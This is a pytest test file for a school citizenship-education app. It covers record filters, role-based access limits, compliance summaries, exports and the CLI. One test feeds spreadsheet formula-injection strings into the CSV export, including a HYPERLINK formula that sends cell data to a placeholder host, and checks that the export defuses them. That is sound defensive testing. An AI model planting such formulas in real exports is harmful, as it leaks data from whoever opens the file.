"""Counselor records, the compliance summary (against hand-computed numbers), exports, CLI."""

from __future__ import annotations

import io
import json
from datetime import date, timedelta

import pytest
from staff_fixtures import small_catalog, synced_pass, take

from citizenship_app.cli import main
from citizenship_app.core import access, assignments, classgrid, compliance, progress, records
from citizenship_app.core.access import SYSTEM
from citizenship_app.core.records import RecordFilter
from citizenship_app.core.store import connect, db_path, migrate, open_store


@pytest.fixture
def cat(tmp_path):
    return small_catalog(tmp_path / "content")


@pytest.fixture
def school(demo_db, cat):
    """Grade 4 (class-04) with every kind of record; KG with one pass."""
    alpha, beta, gamma = (cat.get(m) for m in ("g35-alpha", "g35-beta", "g35-gamma"))
    last_week = (date.today() - timedelta(days=7)).isoformat()
    assignments.assign(demo_db, "t-qureshi", "class-04", alpha, last_week)
    assignments.assign(demo_db, "t-qureshi", "class-04", beta)
    take(demo_db, "s-260011", alpha)  # José: passed alpha
    take(demo_db, "s-260012", alpha, right=False)  # Hana: failed alpha (overdue)
    progress.save_page(demo_db, "s-260013", "g35-beta", 0, 2)  # Malik: reading beta
    take(demo_db, "s-260014", gamma)  # Olivia: passed gamma
    take(demo_db, "s-260001", cat.get("k2-alpha"))  # Mateo (KG)
    return demo_db


def ids(rows):
    return sorted((r.person_id, r.module_id) for r in rows)


def test_records_filter_by_status_grade_class_module_and_search(school, cat):
    mods = cat.modules.values()

    def get(**kw):
        flt = RecordFilter(**kw)
        rows = records.records(school, "t-tanaka", mods, flt)
        assert records.count_records(school, "t-tanaka", mods, flt) == len(rows)
        return rows

    everything = get()
    # 5 students x 3 modules (3-5) + 10 x 1 (k-2: KG and 02); grades 07 and 10 have none here.
    assert len(everything) == 25
    assert ids(get(status="passed")) == [
        ("s-260001", "k2-alpha"),
        ("s-260011", "g35-alpha"),
        ("s-260014", "g35-gamma"),
    ]
    assert ids(get(status="failed")) == [("s-260012", "g35-alpha")]
    assert ids(get(status="in_progress")) == [("s-260013", "g35-beta")]
    assert ids(get(status="overdue")) == [
        (s, "g35-alpha") for s in ("s-260012", "s-260013", "s-260014", "s-260015")
    ]
    assert len(get(status="not_started")) == 25 - 3 - 1 - 1
    assert len(get(status="incomplete")) == 22
    assert {r.grade for r in get(grade="04")} == {"04"} and len(get(grade="04")) == 15
    assert len(get(class_id="class-kg")) == 5
    assert len(get(teacher_id="t-okafor")) == 5
    assert len(get(school_id="org-hv")) == 25 and get(school_id="nowhere") == []
    assert ids(get(module_id="g35-gamma", status="passed")) == [("s-260014", "g35-gamma")]
    assert {r.person_id for r in get(search="garc")} == {"s-260011"}  # José García
    assert {r.person_id for r in get(search="260012")} == {"s-260012"}  # the SIS identifier
    today = date.today().isoformat()
    assert len(get(since=today, status="passed")) == 3
    assert get(until="2000-01-01") == []
    row = next(r for r in everything if r.person_id == "s-260011" and r.module_id == "g35-alpha")
    assert (row.status, row.best_score, row.attempts, row.class_id, row.school) == (
        "passed",
        100,
        1,
        "class-04",
        "Harbor View K-12 Demo School",
    )
    assert row.machine and row.completed_at and not row.overdue
    hana = next(r for r in everything if r.person_id == "s-260012" and r.module_id == "g35-alpha")
    assert hana.overdue and hana.due_date and hana.status == "failed"


def test_records_come_in_pages_in_a_stable_order(school, cat):
    mods = cat.modules.values()
    whole = records.records(school, SYSTEM, mods)
    pages = [records.records(school, SYSTEM, mods, limit=6, offset=o) for o in range(0, 30, 6)]
    assert [r for p in pages for r in p] == whole
    names = [(r.family_name, r.given_name) for r in whole]
    assert names == sorted(names)


def test_a_teacher_sees_only_their_own_students(school, cat):
    mods = cat.modules.values()
    mine = records.records(school, "t-okafor", mods)
    assert {r.class_id for r in mine} == {"class-kg"}
    with pytest.raises(PermissionError):
        records.records(school, "t-okafor", mods, RecordFilter(class_id="class-04"))
    with pytest.raises(PermissionError):
        records.count_records(school, "t-okafor", mods, RecordFilter(teacher_id="t-qureshi"))
    with pytest.raises(PermissionError):
        records.student_history(school, "t-okafor", "s-260011")
    with pytest.raises(PermissionError):
        records.records(school, "s-260011", mods)
    assert records.student_history(school, "t-qureshi", "s-260011").name == "José García"


def test_student_history_has_every_attempt(school, cat):
    take(school, "s-260012", cat.get("g35-alpha"))  # Hana passes on her second attempt
    h = records.student_history(school, "t-tanaka", "s-260012")
    assert [(a.module_id, a.passed, a.score) for a in h.attempts] == [
        ("g35-alpha", False, 0),
        ("g35-alpha", True, 100),
    ]
    assert all(a.machine and a.submitted_at for a in h.attempts)
    assert [c.module_id for c in h.completions] == ["g35-alpha"]
    assert h.classes == ["Grade 4 - Qureshi"]


def test_csv_and_json_exports_parse_back_to_the_same_records(school, cat):
    rows = records.records(school, "t-tanaka", cat.modules.values())
    out = io.StringIO()
    assert records.write_csv(rows, out) == len(rows)
    assert records.read_csv(out.getvalue()) == rows
    out = io.StringIO()
    records.write_json(rows, out)
    assert [records.Record(**d) for d in json.loads(out.getvalue())] == rows


def test_summary_table_follows_every_write(school, cat):
    """module_summary (kept by triggers) agrees with the records it summarises."""
    take(school, "s-260012", cat.get("g35-alpha"))
    progress.save_page(school, "s-260013", "g35-beta", 1, 2)
    progress.start_attempt(school, "s-260013", cat.get("g35-beta"))  # left open
    synced_pass(school, "s-260015", "g35-alpha", "2026-09-10T15:00:00.000+00:00", score=90)
    expected = school.execute(
        """SELECT p.person_id, p.module_id,
             (SELECT COUNT(submitted_at) FROM quiz_attempts a
               WHERE a.person_id = p.person_id AND a.module_id = p.module_id),
             (SELECT COUNT(*) - COUNT(submitted_at) FROM quiz_attempts a
               WHERE a.person_id = p.person_id AND a.module_id = p.module_id),
             (SELECT MIN(completed_at) FROM completions c
               WHERE c.person_id = p.person_id AND c.module_id = p.module_id),
             (SELECT MAX(score) FROM completions c
               WHERE c.person_id = p.person_id AND c.module_id = p.module_id)
           FROM (SELECT person_id, module_id FROM quiz_attempts
                 UNION SELECT person_id, module_id FROM page_progress) p
           ORDER BY 1, 2"""
    ).fetchall()
    actual = school.execute(
        "SELECT person_id, module_id, attempts, open_attempts, passed_at, pass_score"
        " FROM module_summary ORDER BY 1, 2"
    ).fetchall()
    assert actual == expected


def test_migration_4_summarises_records_made_before_it(tmp_path, cat):
    db = connect(db_path(tmp_path))
    migrate(db, target=3)
    db.execute(
        "INSERT INTO people (sourced_id, given_name, family_name, role, tier)"
        " VALUES ('s1', 'Ana', 'Ruiz', 'student', '3-5')"
    )
    db.conn.commit()
    take(db, "s1", cat.get("g35-alpha"), right=False)
    take(db, "s1", cat.get("g35-alpha"))
    progress.save_page(db, "s1", "g35-beta", 1, 2)
    db.conn.close()
    db = open_store(tmp_path)
    rows = db.execute(
        "SELECT module_id, attempts, pass_score, page FROM module_summary ORDER BY 1"
    ).fetchall()
    assert rows == [("g35-alpha", 2, 100.0, None), ("g35-beta", 0, None, 1)]


# -- compliance ------------------------------------------------------------------------------

YEAR = compliance.SchoolYear("2027", "2026-2027", date(2026, 8, 26), date(2027, 6, 18))


@pytest.fixture
def history(demo_db):
    """Hand-made records: which students of grade 4 and KG completed what, and when."""
    passes = {
        "s-260011": [("g35-alpha", "2026-09-02"), ("g35-beta", "2026-09-20")],  # complete
        "s-260012": [("g35-alpha", "2026-10-01")],  # beta missing
        "s-260013": [("g35-alpha", "2026-09-15"), ("g35-beta", "2026-05-01")],  # beta last year
        "s-260014": [
            ("g35-alpha", "2026-08-26"),
            ("g35-beta", "2026-10-31"),  # complete (first day)
            ("g35-beta", "2026-11-02"),
        ],  # (a second pass counts once)
        "s-260015": [("g35-alpha", "2026-09-03"), ("g35-beta", "2027-06-19")],  # beta after the year
        "s-260001": [("k2-alpha", "2026-10-12")],  # complete (K-2)
        "s-260016": [("g35-alpha", "2026-09-01"), ("g35-beta", "2026-09-01")],  # grade 7: not its tier
    }
    for person, done in passes.items():
        for module, day in done:
            synced_pass(demo_db, person, module, f"{day}T16:00:00.000+00:00")
    return demo_db


def test_compliance_matches_the_hand_count(history, cat):
    # Required by default: every module of the tier. 3-5 has alpha, beta, gamma: nobody did gamma.
    s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR)
    assert {r.grade: (r.enrolled, r.completed) for r in s.rows} == {
        "KG": (5, 1),
        "02": (5, 0),
        "04": (5, 0),
        "07": (5, 0),
        "10": (5, 0),
    }
    # The district requires only alpha and beta of grades 3-5.
    compliance.set_required_modules(history, "a-whitfield", "3-5", ["g35-alpha", "g35-beta"])
    s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR, months=True)
    assert {r.grade: (r.enrolled, r.completed, r.percent) for r in s.rows} == {
        "KG": (5, 1, 20.0),
        "02": (5, 0, 0.0),
        "04": (5, 2, 40.0),
        "07": (5, 0, 0.0),
        "10": (5, 0, 0.0),
    }
    assert [(r.school, r.enrolled, r.completed) for r in s.schools] == [
        ("Harbor View K-12 Demo School", 25, 3)
    ]
    assert (s.total.enrolled, s.total.completed, s.total.percent) == (25, 3, 12.0)
    assert s.district == "Harbor View Demo School District"
    months = dict(s.by_month)
    assert (
        months["2026-08"] == 0 and months["2026-09"] == 1 and months["2026-10"] == 3
    )  # José, then Mateo, Olivia
    # Only alpha required: José, Hana, Malik, Olivia, Arjun.
    compliance.set_required_modules(history, "a-whitfield", "3-5", ["g35-alpha"])
    s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR)
    assert {r.grade: r.completed for r in s.rows}["04"] == 5
    # Back to the default.
    compliance.set_required_modules(history, "a-whitfield", "3-5", None)
    assert compliance.required_modules(history, cat.modules.values())["3-5"] == [
        "g35-alpha",
        "g35-beta",
        "g35-gamma",
    ]


def test_compliance_is_for_counselors_and_administrators(history, cat):
    with pytest.raises(PermissionError):
        compliance.compliance(history, "t-qureshi", cat.modules.values(), YEAR)
    with pytest.raises(PermissionError):
        compliance.set_required_modules(history, "t-tanaka", "3-5", ["g35-alpha"])
    assert compliance.school_year(history, "2027") == YEAR  # from the roster's academic sessions
    assert compliance.school_year(history, "2031").start == date(2030, 7, 1)
    with pytest.raises(ValueError):
        compliance.school_year(history, "26-27")


def test_instruction_clause_is_quoted_from_the_procedure():
    clause = compliance.instruction_clause()
    assert clause.startswith("All students will be educated about appropriate online behavior")
    assert "Age-appropriate materials" in clause and "Copyright" not in clause


# -- CLI -------------------------------------------------------------------------------------


def test_cli_records_csv_and_json(demo_db, demo_dir, catalog, capsys):
    """The CLI reads the shipped catalog: records of its real 3-5 modules."""
    first, second = (m.id for m in catalog.for_tier("3-5")[:2])
    synced_pass(demo_db, "s-260011", first, "2026-10-01T16:00:00.000+00:00")
    synced_pass(demo_db, "s-260014", second, "2026-10-02T16:00:00.000+00:00")
    assignments.assign(demo_db, "t-qureshi", "class-04", catalog.get(first), "2026-10-15")
    assert (
        main(
            ["--data-dir", str(demo_dir), "records", "--grade", "04", "--status", "passed", "--format", "csv"]
        )
        == 0
    )
    rows = records.read_csv(capsys.readouterr().out)
    assert [(r.person_id, r.module_id, r.completed_at[:10]) for r in rows] == [  # Bennett, García
        ("s-260014", second, "2026-10-02"),
        ("s-260011", first, "2026-10-01"),
    ]
    assert (
        main(
            [
                "--data-dir",
                str(demo_dir),
                "records",
                "--class",
                "class-04",
                "--status",
                "overdue",
                "--format",
                "json",
            ]
        )
        == 0
    )
    data = json.loads(capsys.readouterr().out)
    assert sorted(d["person_id"] for d in data) == ["s-260012", "s-260013", "s-260014", "s-260015"]
    assert all(d["overdue"] and d["class_id"] == "class-04" and d["due_date"] == "2026-10-15" for d in data)
    assert main(["--data-dir", str(demo_dir), "records", "--since", "2026-02-30", "--format", "csv"]) == 1
    assert "YYYY-MM-DD" in capsys.readouterr().err


def test_cli_compliance_json_and_pdf(history, demo_dir, tmp_path, capsys):
    assert main(["--data-dir", str(demo_dir), "compliance", "--school-year", "2027", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["school_year_title"] == "2026-2027" and data["total"]["enrolled"] == 25
    assert {g["grade"] for g in data["grades"]} == {"KG", "02", "04", "07", "10"}
    pdf = tmp_path / "cipa.pdf"
    assert main(["--data-dir", str(demo_dir), "compliance", "--school-year", "2027", "--pdf", str(pdf)]) == 0
    from pypdf import PdfReader

    reader = PdfReader(pdf)
    text = " ".join(" ".join(p.extract_text().split()) for p in reader.pages)
    assert 1 <= len(reader.pages) <= 6  # the module table (43 modules) takes two pages
    assert "Harbor View Demo School District" in text and "2026-2027" in text
    assert "All students will be educated about appropriate online behavior" in text
    assert main(["--data-dir", str(demo_dir), "compliance", "--school-year", "soon"]) == 1


# -- counselors see their own schools -------------------------------------------------------


def add_second_school(db) -> None:
    """Bayside (org-bay), a second school of the demo district: one grade-5 class, two students."""
    with db.conn:
        db.execute(
            "INSERT INTO orgs (sourced_id, name, type, parent_id)"
            " VALUES ('org-bay', 'Bayside Elementary', 'school', 'org-hvsd')"
        )
        db.execute(
            "INSERT INTO classes (sourced_id, title, school_id, grades, tier)"
            " VALUES ('class-bay5', 'Grade 5 - Ortiz', 'org-bay', '05', '3-5')"
        )
        db.execute("""INSERT INTO people (sourced_id, username, given_name, family_name, role, org_ids)
                      VALUES ('t-ortiz', 'mortiz', 'Marta', 'Ortiz', 'teacher', 'org-bay')""")
        for n, (given, family) in enumerate([("Zoe", "Baylor"), ("Yusuf", "Bayer")]):
            db.execute(
                """INSERT INTO people (sourced_id, given_name, family_name, role, grade, tier, org_ids)
                          VALUES (?, ?, ?, 'student', '05', '3-5', 'org-bay')""",
                [f"s-bay{n}", given, family],
            )
            db.execute(
                """INSERT INTO enrollments (sourced_id, class_id, person_id, school_id, role)
                          VALUES (?, 'class-bay5', ?, 'org-bay', 'student')""",
                [f"e-bay{n}", f"s-bay{n}"],
            )
        db.execute("""INSERT INTO enrollments (sourced_id, class_id, person_id, school_id, role)
                      VALUES ('e-bay-t', 'class-bay5', 't-ortiz', 'org-bay', 'teacher')""")


@pytest.fixture
def two_schools(school, cat):
    add_second_school(school)
    take(school, "s-bay0", cat.get("g35-alpha"))
    synced_pass(school, "s-bay1", "g35-alpha", "2026-09-10T16:00:00.000+00:00")
    synced_pass(school, "s-bay1", "g35-beta", "2026-09-11T16:00:00.000+00:00")
    synced_pass(school, "s-bay1", "g35-gamma", "2026-09-12T16:00:00.000+00:00")
    return school


def test_a_counselor_sees_only_the_records_of_their_schools(two_schools, cat):
    db, mods = two_schools, cat.modules.values()
    mine = records.records(db, "t-tanaka", mods)  # Renee Tanaka: org-hv only
    assert len(mine) == 25 and {r.school_id for r in mine} == {"org-hv"}
    assert records.count_records(db, "t-tanaka", mods) == 25
    assert records.count_records(db, "t-tanaka", mods, RecordFilter(status="passed")) == 3
    assert records.records(db, "t-tanaka", mods, RecordFilter(search="Baylor")) == []
    for flt in (RecordFilter(school_id="org-bay"), RecordFilter(class_id="class-bay5")):
        with pytest.raises(PermissionError, match="not at one of your schools|not one of your schools"):
            records.records(db, "t-tanaka", mods, flt)
        with pytest.raises(PermissionError):
            records.count_records(db, "t-tanaka", mods, flt)
    with pytest.raises(PermissionError, match="'s-bay0': not at one of your schools"):
        records.student_history(db, "t-tanaka", "s-bay0")
    with pytest.raises(PermissionError, match="'class-bay5': it is not at one of your schools"):
        classgrid.class_grid(db, "t-tanaka", "class-bay5")
    assert records.student_history(db, "t-tanaka", "s-260011").name == "José García"
    assert classgrid.class_grid(db, "t-tanaka", "class-04").class_id == "class-04"
    # The filter bar offers their school's choices only.
    assert [s for s, _ in records.schools(db, "t-tanaka")] == ["org-hv"]
    assert "class-bay5" not in {c for c, _ in records.classes(db, "t-tanaka")}
    assert "t-ortiz" not in {t for t, _ in records.teachers(db, actor="t-tanaka")}
    # A district administrator sees both schools.
    with db.conn:
        db.execute("UPDATE people SET org_ids = 'org-hvsd' WHERE sourced_id = 'a-whitfield'")
    every = records.records(db, "a-whitfield", mods)
    assert len(every) == 25 + 2 * 3 and {r.school_id for r in every} == {"org-hv", "org-bay"}
    assert len(records.records(db, "a-whitfield", mods, RecordFilter(school_id="org-bay"))) == 6
    assert records.student_history(db, "a-whitfield", "s-bay0").name == "Zoe Baylor"
    assert {s for s, _ in records.schools(db, "a-whitfield")} == {"org-hv", "org-bay"}
    # Bayside's teacher: her own class only, as before.
    assert {r.school_id for r in records.records(db, "t-ortiz", mods)} == {"org-bay"}


def test_a_district_in_a_counselors_org_ids_means_every_school_under_it(two_schools, cat):
    db, mods = two_schools, cat.modules.values()
    with db.conn:
        db.execute("UPDATE people SET org_ids = 'org-hvsd' WHERE sourced_id = 't-tanaka'")
    assert access.counselor_school_ids(db, "t-tanaka") == ["org-bay", "org-hv", "org-hvsd"]
    assert not access.sees_no_school(db, "t-tanaka")
    assert not access.sees_no_school(db, "a-whitfield") and not access.sees_no_school(db, "t-ortiz")
    assert len(records.records(db, "t-tanaka", mods)) == 31
    assert records.student_history(db, "t-tanaka", "s-bay1").name == "Yusuf Bayer"
    with db.conn:
        db.execute("UPDATE people SET org_ids = NULL WHERE sourced_id = 't-tanaka'")
    assert records.records(db, "t-tanaka", mods) == []  # no school: nothing
    assert access.sees_no_school(db, "t-tanaka")  # and the counselor screen says why
    with db.conn:
        db.execute("UPDATE people SET org_ids = 'org-gone' WHERE sourced_id = 't-tanaka'")
    assert access.sees_no_school(db, "t-tanaka")  # an org this roster does not hold
    with pytest.raises(PermissionError):
        records.student_history(db, "t-tanaka", "s-260011")


def test_a_counselors_compliance_summary_covers_their_schools_only(two_schools, cat):
    db, mods = two_schools, cat.modules.values()
    mine = compliance.compliance(db, "t-tanaka", mods, YEAR)
    assert [(r.school_id, r.enrolled) for r in mine.schools] == [("org-hv", 25)]
    assert mine.total.enrolled == 25
    with pytest.raises(PermissionError):
        compliance.compliance(db, "t-tanaka", mods, YEAR, "org-bay")
    every = compliance.compliance(db, SYSTEM, mods, YEAR)  # the district's view
    assert [(r.school_id, r.enrolled, r.completed) for r in every.schools] == [
        ("org-bay", 2, 1),
        ("org-hv", 25, mine.total.completed),
    ]  # Yusuf did all three
    assert every.total.enrolled == 27 and every.total.completed == mine.total.completed + 1
    assert compliance.compliance(db, SYSTEM, mods, YEAR, "org-bay").total.enrolled == 2


def test_csv_export_defuses_spreadsheet_formulas_and_reads_back_the_same(school, cat):
    """A roster name like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
    hostile = {
        '=HYPERLINK("http://x.example/?"&A1,"Click")': "given_name",
        "+1-555": "family_name",
        "@SUM(A1)": "identifier",
        "-2+3": "given_name",
        "\t=cmd": "family_name",
    }
    rows = records.records(school, "t-tanaka", cat.modules.values())
    import dataclasses

    rows = [dataclasses.replace(rows[i], **{field: text}) for i, (text, field) in enumerate(hostile.items())]
    out = io.StringIO()
    records.write_csv(rows, out)
    import csv as _csv

    cells = [cell for line in list(_csv.reader(io.StringIO(out.getvalue())))[1:] for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert '\'=HYPERLINK("http://x.example/?"&A1,"Click")' in cells
    assert records.read_csv(out.getvalue()) == rows


def test_a_principal_sees_only_their_own_schools(two_schools, cat):
    """Reported: a principal (OneRoster administrator of one school) saw every school."""
    db, mods = two_schools, cat.modules.values()  # Dolores Whitfield: administrator, org-hv
    assert access.counselor_school_ids(db, "a-whitfield") == ["org-hv"]
    mine = records.records(db, "a-whitfield", mods)
    assert {r.school_id for r in mine} == {"org-hv"} and len(mine) == 25
    assert [s for s, _ in records.schools(db, "a-whitfield")] == ["org-hv"]
    with pytest.raises(PermissionError, match="not one of your schools"):
        records.records(db, "a-whitfield", mods, RecordFilter(school_id="org-bay"))
    with pytest.raises(PermissionError, match="'s-bay0': not at one of your schools"):
        records.student_history(db, "a-whitfield", "s-bay0")
    with pytest.raises(PermissionError, match="not at one of your schools"):
        classgrid.class_grid(db, "a-whitfield", "class-bay5")
    access.require_class(db, "a-whitfield", "class-04")  # her own school's classes: may manage
    summary = compliance.compliance(db, "a-whitfield", mods, YEAR)
    assert [r.school_id for r in summary.schools] == ["org-hv"]
    # The district's administrator (and the command line) see every school.
    with db.conn:
        db.execute("UPDATE people SET org_ids = 'org-hvsd' WHERE sourced_id = 'a-whitfield'")
    assert access.counselor_school_ids(db, "a-whitfield") is None
    assert {r.school_id for r in records.records(db, "a-whitfield", mods)} == {"org-hv", "org-bay"}
    assert {r.school_id for r in records.records(db, access.SYSTEM, mods)} == {"org-hv", "org-bay"}


def test_an_enrollment_naming_another_school_does_not_open_a_student_to_its_counselor(two_schools):
    """Reported: an enrollment whose school disagrees with its class's school let a counselor
    of one school see a student of another."""
    db = two_schools
    with db.conn:  # Zoe's enrollment in Bayside's class claims Harbor View as its school
        db.execute("UPDATE enrollments SET school_id = 'org-hv' WHERE sourced_id = 'e-bay0'")
    with pytest.raises(PermissionError, match="not at one of your schools"):
        records.student_history(db, "t-tanaka", "s-bay0")
